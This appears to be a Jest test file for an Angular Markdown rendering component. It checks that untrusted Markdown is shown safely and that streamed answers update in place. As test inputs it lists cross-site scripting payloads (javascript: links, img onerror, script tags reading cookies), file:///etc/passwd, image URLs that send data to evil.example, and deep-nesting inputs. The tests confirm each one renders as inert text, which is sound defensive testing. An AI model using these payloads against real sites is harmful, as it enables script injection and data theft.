import { Component, signal } from '@angular/core';
import { ComponentFixture, TestBed } from '@angular/core/testing';
import { Lexer, marked } from 'marked';
import { MarkdownView } from './markdown-view';

@Component({
  imports: [MarkdownView],
  template: '<app-markdown [markdown]="markdown()" />',
})
class Host {
  readonly markdown = signal('');
}

let fixture: ComponentFixture<Host>;

async function render(markdown: string): Promise<HTMLElement> {
  fixture ??= TestBed.createComponent(Host);
  fixture.componentInstance.markdown.set(markdown);
  await fixture.whenStable();
  return fixture.nativeElement.querySelector('app-markdown') as HTMLElement;
}

/** Every element under `root`, by tag name, in document order. */
function tags(root: Element): string[] {
  return Array.from(root.querySelectorAll('*'), (element) => element.localName).filter(
    (tag) => !tag.startsWith('app-'),
  );
}

/**
 * The text of each text-holding element in document order, headings by kind only: what a reader
 * sees, to compare with the browser's rendering of marked's own HTML.
 */
function readableText(root: Element): string[] {
  return Array.from(root.querySelectorAll('p, h1, h2, h3, h4, h5, h6, th, td, pre, li'), (el) =>
    el.localName === 'li'
      ? `li:${(el.textContent ?? '').replace(/\s+/g, '')}`
      : // marked ends a code block with a newline, which a <pre> does not show.
        `${el.localName.replace(/^h\d$/, 'h')}:${(el.textContent ?? '').replace(/\n$/, '')}`,
  );
}

afterEach(() => {
  fixture = undefined as unknown as ComponentFixture<Host>;
  jest.restoreAllMocks();
});

describe('MarkdownView', () => {
  describe('formatted text', () => {
    it('renders inline formatting with exactly the text written', async () => {
      const view = await render('a **b** _c_ ~~d~~ `e`, f.');
      expect(view.textContent).toBe('a b c d e, f.');
      expect(tags(view)).toEqual(['p', 'strong', 'em', 'del', 'code']);
    });

    it('reads as marked’s own HTML reads in a browser, structure and text', async () => {
      const markdown = [
        '# Log file sync',
        '',
        'Commits wait on **LGWR** &amp; the _redo_ write; see `v$system_event` &mdash; &copy; &#169; &unknown;.',
        'A soft',
        'line and a hard  ',
        'break.',
        '',
        '- tight *one*',
        '- tight two',
        '  1. nested',
        '',
        '3. loose',
        '',
        '4. list',
        '',
        '> quoted **text**',
        '',
        '```sql',
        'SELECT * FROM t WHERE a < 1 AND b > 2 & c;',
        '```',
        '',
        '| wait | avg &lt;ms&gt; |',
        '|:-----|-----:|',
        '| `log file sync` | 2.5 |',
        '',
        '---',
        '',
        'Escaped \\*stars\\* and \\<tags\\>.',
      ].join('\n');
      const view = await render(markdown);
      const reference = new DOMParser().parseFromString(
        marked.parse(markdown, { async: false, gfm: true }),
        'text/html',
      ).body;
      expect(readableText(view)).toEqual(readableText(reference));
      expect(tags(view)).toEqual(
        tags(reference)
          .map((tag) => (tag === 'h1' ? 'h3' : tag))
          .flatMap((tag) =>
            // Tables sit in a scrollable group; code blocks in a box that can show the language.
            tag === 'table' ? ['div', 'table'] : tag === 'pre' ? ['div', 'span', 'pre'] : [tag],
          ),
      );
      expect(view.querySelector('ol[start="3"]')).not.toBeNull();
      expect(view.querySelector('.md-code-language')?.textContent).toBe('sql');
      expect(view.querySelector('th')?.style.textAlign).toBe('left');
    });

    it('shows task list items as ticked or not, named for screen readers', async () => {
      const view = await render('- [x] gather statistics\n- [ ] check the plan');
      const marks = Array.from(view.querySelectorAll('li [role="img"]'));
      expect(marks.map((mark) => mark.getAttribute('aria-label'))).toEqual(['done', 'not done']);
      expect(view.querySelector('input')).toBeNull();
    });

    it('places Markdown headings below the page’s own, as configured', async () => {
      const view = await render('# one\n\n## two\n\n###### six');
      expect(tags(view)).toEqual(['h3', 'h4', 'h6']);
    });
  });

  describe('links', () => {
    it('opens http(s) links in a new tab without opener or referrer', async () => {
      const view = await render(
        '[docs](https://docs.oracle.com/en/ "Oracle docs"), <http://example.com/a>, www.example.org',
      );
      const links = Array.from(view.querySelectorAll('a'));
      expect(links.map((link) => link.getAttribute('href'))).toEqual([
        'https://docs.oracle.com/en/',
        'http://example.com/a',
        'http://www.example.org/',
      ]);
      for (const link of links) {
        expect(link.getAttribute('target')).toBe('_blank');
        expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      }
      expect(links[0].getAttribute('title')).toBe('Oracle docs');
      expect(links[0].textContent).toBe('docs');
    });

    it.each([
      ['javascript:', '[click](javascript:alert(document.domain))'],
      ['upper-case javascript:', '[click](JaVaScRiPt:alert(1))'],
      ['javascript: hidden by a tab', '[click](java&#9;script:alert(1))'],
      ['javascript: hidden by a named reference', '[click](javascript&colon;alert(1))'],
      ['javascript: autolink', '<javascript:alert(1)>'],
      ['data:', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
      ['vbscript:', '[click](vbscript:msgbox(1))'],
      ['file:', '[click](file:///etc/passwd)'],
      ['a relative path', '[click](/api/me)'],
      ['a protocol-relative URL', '[click](//evil.example/steal)'],
      ['a fragment', '[click](#top)'],
      ['a reference to javascript:', '[click][x]\n\n[x]: javascript:alert(1)'],
    ])('renders a link to %s as inert text', async (_case, markdown) => {
      const view = await render(markdown);
      expect(view.querySelector('a')).toBeNull();
      expect(view.querySelector('[href]')).toBeNull();
      expect(view.querySelector('.md-inert-link')).not.toBeNull();
    });

    it('shows where an inert link pointed, as text', async () => {
      const view = await render('[click](javascript:alert(1))');
      expect(view.textContent).toBe('click (javascript:alert(1))');
    });
  });

  describe('untrusted output', () => {
    it.each([
      ['an image with an error handler', '<img src=x onerror="alert(1)">', 'img'],
      ['a script', '<script>alert(document.cookie)</script>', 'script'],
      ['an iframe', '<iframe src="https://evil.example"></iframe>', 'iframe'],
      ['an svg with onload', '<svg onload=alert(1)><circle r="5"/></svg>', 'svg'],
      ['a raw link', '<a href="javascript:alert(1)">x</a>', 'a'],
      ['a style element', '<style>body { display: none }</style>', 'style'],
      ['a form', '<form action="https://evil.example"><input name="q"></form>', 'form'],
      ['an object', '<object data="https://evil.example/x.swf"></object>', 'object'],
      [
        'a meta refresh',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        'meta',
      ],
      ['a base element', '<base href="https://evil.example/">', 'base'],
      ['inline html in a paragraph', 'Hello <img src=x onerror=alert(1)> world', 'img'],
      ['html in a list item', '- <script>alert(1)</script>', 'script'],
      ['html in a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |', 'img'],
      ['html inside a link text', '[<img src=x onerror=alert(1)>](https://example.com)', 'img'],
    ])('shows %s as the characters written, never as an element', async (_case, markdown, tag) => {
      const view = await render(markdown);
      expect(view.querySelector(tag)).toBeNull();
      expect(view.querySelector('[onerror], [onload], [src], [style]')).toBeNull();
      const written = markdown.match(/<[^>]+>/)?.[0] ?? '';
      expect(view.textContent).toContain(written);
    });

    it.each([
      ['an image', '![secret](https://evil.example/?q=secret)'],
      ['an image by reference', '![secret][i]\n\n[i]: https://evil.example/?q=secret'],
      ['an image inside a link', '[![secret](https://evil.example/x.png)](https://example.com)'],
    ])('never loads %s: its description stands in', async (_case, markdown) => {
      const view = await render(markdown);
      expect(view.querySelector('img, picture, source, image')).toBeNull();
      expect(view.querySelector('[src]')).toBeNull();
      expect(view.querySelector('.md-image')?.textContent).toBe('[image: secret]');
      expect(view.innerHTML).not.toContain('evil.example');
    });

    it.each([
      ['quotes nested 5,000 deep', '>'.repeat(5000) + ' x'],
      ['lists nested 2,000 deep on one line', '- '.repeat(2000) + 'x'],
      ['emphasis nested 500 deep', '*'.repeat(1000) + 'x' + '*'.repeat(1000)],
    ])('shows %s as text, without nesting elements that deep', async (_case, markdown) => {
      const view = await render(markdown);
      let depth = 0;
      for (let element = view.querySelector('*'); element; element = element.firstElementChild) {
        depth++;
      }
      expect(depth).toBeLessThan(100);
      expect(view.textContent?.replace(/\s/g, '')).toContain('x');
    });

    it('keeps text that looks like Angular template syntax as text', async () => {
      const view = await render("{{ constructor.constructor('alert(1)')() }} @if (x) { y }");
      expect(view.textContent).toBe("{{ constructor.constructor('alert(1)')() }} @if (x) { y }");
    });
  });

  describe('a streamed answer', () => {
    it('keeps the elements of finished blocks while the last one grows', async () => {
      const first = await render('## Waits\n\nFirst paragraph.\n\nSecond');
      const heading = first.querySelector('h4');
      const paragraph = first.querySelector('p');
      const view = await render('## Waits\n\nFirst paragraph.\n\nSecond paragraph, longer.');
      expect(view.querySelector('h4')).toBe(heading);
      expect(view.querySelector('p')).toBe(paragraph);
      expect(view.querySelectorAll('p')[1].textContent).toBe('Second paragraph, longer.');
    });

    it('keeps the text nodes of a long paragraph’s beginning while its end grows', async () => {
      const start = 'Sessions hash to the same bucket. '.repeat(500);
      const paragraph = (await render(start)).querySelector('p') as HTMLElement;
      const textNodes = () => {
        const walker = document.createTreeWalker(paragraph, NodeFilter.SHOW_TEXT);
        const nodes: Node[] = [];
        while (walker.nextNode()) nodes.push(walker.currentNode);
        return nodes;
      };
      const before = textNodes();
      const view = await render(start + 'and the latch is hot.');
      expect(view.querySelector('p')).toBe(paragraph);
      const after = textNodes();
      expect(before.length).toBeGreaterThan(5);
      expect(after.slice(0, before.length - 1)).toEqual(before.slice(0, -1));
      for (const [index, node] of before.slice(0, -1).entries()) expect(after[index]).toBe(node);
      expect(paragraph.textContent).toBe((start + 'and the latch is hot.').trimEnd());
    });

    it('shows a text that is costly to lex less often, catching up with the latest', async () => {
      // Every lexing pass "takes" 10 ms on this clock: the next may come 30 ms later.
      let clock = 0;
      jest.spyOn(performance, 'now').mockImplementation(() => clock);
      const lex = Lexer.prototype.lex;
      jest.spyOn(Lexer.prototype, 'lex').mockImplementation(function (this: Lexer, source) {
        clock += 10;
        return lex.call(this, source);
      });
      expect((await render('First')).textContent).toBe('First');
      await render('First and second');
      await render('First and second and third');
      expect(fixture.nativeElement.textContent).toBe('First');
      await new Promise((resolve) => setTimeout(resolve, 40));
      await fixture.whenStable();
      expect(fixture.nativeElement.textContent).toBe('First and second and third');
    });

    it('renders another answer from scratch', async () => {
      await render('# One\n\ntext');
      const view = await render('Two');
      expect(tags(view)).toEqual(['p']);
      expect(view.textContent).toBe('Two');
    });
  });
});
